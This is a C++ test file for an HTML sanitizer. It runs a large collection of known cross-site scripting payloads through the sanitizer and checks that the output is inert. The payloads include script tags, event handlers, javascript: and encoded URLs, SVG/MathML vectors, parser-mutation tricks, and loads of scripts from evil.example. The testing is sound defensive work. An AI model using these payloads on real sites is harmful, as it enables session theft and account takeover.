// Known ways to get something active through a filter of HTML: each of them, made safe, is inert,
// and a browser's parser reads in it just what is written. Grouped by what they try.

#include <random>
#include <string>
#include <string_view>

#include <doctest/doctest.h>

#include "antiphon/feed/html.h"
#include "feed/gumbo_referee.h"

using antiphon::feed::is_inert;
using antiphon::feed::reparsed;
using antiphon::feed::safe_html;

namespace {

using namespace std::string_view_literals;

constexpr std::string_view kBase = "https://example.org/blog/post";

// clang-format off
constexpr std::string_view kElements[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script src=//evil.example/x.js>",
    "<script src=//evil.example/x.js <b>",
    "<script type=module>import('//evil.example')</script>",
    "<script/src=data:,alert(1)>",
    "<script\x0Ctype=text/javascript>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<script><!--<script></script>alert(1)--></script>",
    "<scr\0ipt>alert(1)</script>"sv,
    "<sc<script>ript>alert(1)</sc</script>ript>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=//evil.example onload=alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/x-scriptlet data=//evil.example></object>",
    "<object classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<applet code=Evil.class></applet>",
    "<portal src=//evil.example></portal>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<link rel=import href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0; URL=http://;URL=javascript:alert(1);'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<base href=javascript:alert(1)//>",
    "<base target=_blank href=//evil.example>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.example/x></layer>",
    "<xml id=i><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html></span>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<slot onslotchange=alert(1)></slot>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<?php echo('<scr'); echo('ipt>alert(1)</script>'); ?>",
    "<!--#exec cmd='/bin/echo <script>alert(1)</script>'-->",
};

constexpr std::string_view kForms[] = {
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=hidden name=csrf value=x>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<select><iframe></select><img src=x: onerror=alert(1)></iframe></select>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<form><input name=attributes><input name=parentNode></form>",
    "<fieldset form=x><legend onclick=alert(1)>x</legend></fieldset>",
    "<label for=x onmouseover=alert(1)>x</label>",
    "<output name=x form=f onforminput=alert(1)>x</output>",
    "<datalist><option label='<script>alert(1)</script>'></datalist>",
};

constexpr std::string_view kHandlers[] = {
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)' >",
    "<img src=x ONERROR=alert(1)>",
    "<img src=x on\nerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x/onerror=alert(1)>",
    "<img/src='x'onerror='alert(1)'>",
    "<img src='x'/onerror='alert(1)'>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img \"\"\"><script>alert(1)</script>\"\\>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img src onerror /\" '\"= alt=alert(1)//\">",
    "<img src=`x`onerror=alert(1)>",
    "<img title=\"a\" title=\"><img src=x onerror=alert(1)>\">",
    "<img srcset='x 1x, javascript:alert(1) 2x' onerror=alert(1)>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img src=x usemap=#m><map name=m><area shape=rect href=javascript:alert(1)></map>",
    "<img src=x longdesc=javascript:alert(1)>",
    "<picture><source srcset=javascript:alert(1) onerror=alert(1)><img></picture>",
    "<body onload=alert(1)>x</body>",
    "<body background=javascript:alert(1)>x",
    "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<div onmouseover=alert(1)>x</div>",
    "<div/onmouseover='alert(1)'style='x:'>x",
    "<p onclick=\"alert(1)\"onclick=\"alert(2)\">x</p>",
    "<video onerror=alert(1)><source onerror=alert(1)></video>",
    "<video src=x onloadstart=alert(1) poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=\"alert(1)\"></source></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<table><tr onmouseenter=alert(1)><td onclick=alert(1)>x</table>",
    "<a onclick=alert(1) href=#>x</a>",
    "<a href=https://evil.example ping=//evil.example/p download>x</a>",
    "<a href=https://evil.example target=_top rel=opener>x</a>",
    "<p contenteditable onfocus=alert(1) tabindex=0 autofocus>x</p>",
    "<p id=location name=cookie class=x>x</p>",
    "<p accesskey=x onclick=alert(1) popover>x</p>",
    "<p itemtype=x data-x=y aria-label=z slot=a is=b nonce=c part=d>x</p>",
    "<br size=\"&{alert(1)}\">",
    "<b/alt='1'onmouseover=InputBox+1>x</b>",
    "<x onclick=alert(1)>x</x>",
    "<p on=x onx=y>z</p>",
};

constexpr std::string_view kStyles[] = {
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width: expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style=\"xss:expr/*x*/ession(alert(1))\">x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='\\65xpression(alert(1))'>x</p>",
    "<p style=\"font-family:'foo&#10;;color:red;'\">x</p>",
    "<p style='background-image:\\0075\\0072\\006C\\0028'>x</p>",
    "<img style='xss:expr/*XSS*/ession(alert(1))'>",
    "<font style='color:expression(alert(1))' color=red face=x>x</font>",
    "<style type=text/javascript>alert(1);</style>",
    "<div style=\"background:url('//evil.example/?leak\">x</div>",
};

constexpr std::string_view kAddresses[] = {
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href='jav&#x0D;ascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>x</a>",
    "<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>x</a>",
    "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert&lpar;1&rpar;'>x</a>",
    "<a href='javascript\xE2\x80\x8B:alert(1)'>x</a>",
    "<a href='\xC2\xA0javascript:alert(1)'>x</a>",
    "<a href='\xE3\x80\x80javascript:alert(1)'>x</a>",
    "<a href='\xEF\xBB\xBFjavascript:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='feed:data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='jar:http://evil.example/x.jar!/x.html'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='livescript:alert(1)'>x</a>",
    "<a href='mocha:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='data:image/svg+xml,<svg onload=alert(1)>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://example.org/x'>x</a>",
    "<a href='filesystem:https://example.org/x'>x</a>",
    "<a href='about:blank'>x</a>",
    "<a href='ms-its:x'>x</a>",
    "<a href='tel:911'>x</a>",
    "<a href='http://[::1]/\"onclick=\"alert(1)'>x</a>",
    "<a href='https://evil.example/\" onclick=\"alert(1)'>x</a>",
    "<a href='https://evil.example/&quot; onclick=&quot;alert(1)'>x</a>",
    "<a href='https://evil.example/><script>alert(1)</script>'>x</a>",
    "<a href=\"https://example.org/\0javascript:alert(1)\">x</a>"sv,
    "<a href=\"//evil.example\\@example.org\">x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='ja\0vascript:alert(1)'>x</a>"sv,
    "<a href=javascript://%0aalert(1)>x</a>",
    "<a href='https:javascript:alert(1)'>x</a>",
    "<a\x0Bhref=javascript:alert(1)>x</a>",
    "<a href\x0B=javascript:alert(1)>x</a>",
    "<a href=\"\"\"javascript:alert(1)\">x</a>",
    "<a href=javascript:alert(1) href=https://example.org>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a xml:base=javascript: href=alert(1)>x</a>",
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img data-src=javascript:alert(1)>",
    "<img srcset='javascript:alert(1) 2x'>",
    "<img data-src='x\" onerror=\"alert(1)'>",
    "<video poster=javascript:alert(1)><source src=javascript:alert(1)></video>",
    "<audio src=javascript:alert(1)></audio>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<del cite=javascript:alert(1) datetime='\"onclick=alert(1)'>x</del>",
};

constexpr std::string_view kForeign[] = {
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use xlink:href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'></svg>",
    "<svg><image href=x onerror=alert(1)></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>alert(1)</handler></svg>",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><title><style><img title='</style><img src=x onerror=alert(1)>'></title></svg>",
    "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\"></p></svg>",
    "<svg><svg></svg><script>alert(1)</script></svg>",
    "</svg><svg onload=alert(1)></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><annotation-xml encoding='text/html'><style></math><img src=x onerror=alert(1)></style></annotation-xml>",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
    "<math><mi><table><mi><mglyph><style><math>CLICKME</math></style></mglyph></mi></table></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><semantics><annotation encoding=application/x-tex><img src=x onerror=alert(1)></annotation></semantics></math>",
    "<math alttext='<img src=x onerror=alert(1)>'></math>",
};

constexpr std::string_view kMutations[] = {
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<listing>&lt;img onerror=\"alert(1);//\" src=x&gt;</listing>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<template><p title=\"</template><img src=x onerror=alert(1)>\"></template>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-- a <!-- b --><img src=x onerror=alert(1)> -->",
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    "<![><img src=\"]><img src=x onerror=alert(1)//\">",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<![CDATA[<]]>script>alert(1)<![CDATA[<]]>/script>",
    "<!<script>alert(1)</script>>",
    "</ <script>alert(1)</script>>",
    "</a onmouseover=alert(1)>",
    "</br onclick=alert(1)>",
    "<//style><img src=x onerror=alert(1)>",
    "<% <img src=x onerror=alert(1)> %>",
    "<=\"<img src=x onerror=alert(1)>\">",
    "<a<img src=x onerror=alert(1)>>",
    "<p title='<img src=x onerror=alert(1)>'>x</p>",
    "<p title=\"&lt;img src=x onerror=alert(1)&gt;\">x</p>",
    "<p title=&quot;x&quot;onclick=alert(1)>x</p>",
    "<p title='`'><img src=x alt='` onerror=alert(1)//'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\xC0\xBCscript\xC0\xBE" "alert(1)\xC0\xBC/script\xC0\xBE",
    "\xBCscript\xBE" "alert(\xA2XSS\xA2)\xBC/script\xBE",
    "<\xEF\xBC\x9Cscript>alert(1)</script>",
    "<img alt=\"\xC2\" src=\" onerror=alert(1)>",
    "<p lang=\"\xE3\"><img title=\"\" onerror=alert(1) src=x>",
    "<a title='a&#x0;b' href='x&#x0;'>y</a>",
    "<table><caption><svg><style></table><img src=x onerror=alert(1)>",
    "<table><td><p></table><script>alert(1)</script>",
    "<table><a href=x><table><td></a><img src=x onerror=alert(1)>",
    "<select><template><style></select><img src=x onerror=alert(1)>",
    "<a><table><a></table><p><a><style></a><img src=x onerror=alert(1)>",
    "<b><i><b><i><p></b></i><script>alert(1)</script>",
    "<pre>\n\n<script>alert(1)</script></pre>",
    "<p><svg><style><!--</style><img src=x onerror=alert(1)>--></svg>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=xx:x onerror=alert(1)//\"></svg>",
    "<div id=\"1'\"><img id='\"><img src=x onerror=alert(1)>'></div>",
    "<img alt='&#x22; onerror=&#x22;alert(1)' src=x>",
    "<option><style></option></select><img src=x onerror=alert(1)></style>",
    "<b <script>alert(1)</script>>x</b>",
    "<img src=x <!-- onerror=alert(1) -->",
    "<p/ onclick=alert(1)/>x",
    "<a href=x onclick\r=alert(1)>y</a>",
    "<d3\"<\"/onclick=\"alert(1)\">x",
    "<a\nonclick\n=\nalert(1)\nhref=x>y</a>",
};
// clang-format on

template <std::size_t N>
void check_all(const std::string_view (&attacks)[N]) {
  for (const std::string_view attack : attacks) {
    CAPTURE(attack);
    for (const std::string_view before : {"", "<p>text ", "<table><tr><td>", "<a href=/x>"}) {
      const std::string page =
          safe_html(std::string(before) + std::string(attack) + " after", kBase);
      CAPTURE(page);
      CHECK(is_inert(page));
      CHECK(reparsed(page) == page);
      CHECK(safe_html(page, kBase) == page);
    }
  }
}

}  // namespace

TEST_CASE("no element that acts survives") {
  check_all(kElements);
}

TEST_CASE("no form and nothing of one survives") {
  check_all(kForms);
}

TEST_CASE("no handler of an event survives, nor any attribute that is not known to be harmless") {
  check_all(kHandlers);
}

TEST_CASE("no style survives") {
  check_all(kStyles);
}

TEST_CASE("no address survives that does something, however it is written") {
  check_all(kAddresses);
}

TEST_CASE("nothing of SVG and MathML survives but text") {
  check_all(kForeign);
}

TEST_CASE("what one parser hides and another reads is not hidden, or gone") {
  check_all(kMutations);
}

TEST_CASE("attacks cut up and put together in any order are inert") {
  std::string all;
  for (const auto attack : kMutations)
    all += attack;
  for (const auto attack : kForeign)
    all += attack;
  std::mt19937 random(5);
  for (int i = 0; i < 3000; ++i) {
    std::string html;
    for (auto n = 1 + random() % 5; n > 0; --n) {
      const auto from = random() % all.size();
      html += all.substr(from, random() % 60);
    }
    CAPTURE(html);
    const std::string page = safe_html(html, kBase);
    REQUIRE(is_inert(page));
    REQUIRE(reparsed(page) == page);
  }
}
